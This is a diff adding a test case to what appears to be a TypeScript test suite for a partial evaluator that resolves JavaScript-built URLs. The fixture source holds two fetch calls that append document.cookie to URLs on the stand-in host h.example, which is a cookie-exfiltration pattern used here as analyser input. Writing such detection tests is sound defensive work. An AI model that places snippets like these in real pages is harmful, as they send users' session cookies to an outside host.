@@ -253,6 +253,13 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: [],
     not: ['h.example/b?'],
   },
+  {
+    name: 'an array read whole before a later write is not given the later items',
+    source: `var t=['https://h.example/a'];fetch(''+t+'?'+document.cookie);t[0]='https://h.example/b'
+      var u=['https://h.example/','c'];fetch(String(u)+'?'+document.cookie);u[1]='d'`,
+    has: [],
+    not: ['h.example/b?', ',d?'],
+  },
 ]
 
 describe('partial evaluator', () => {
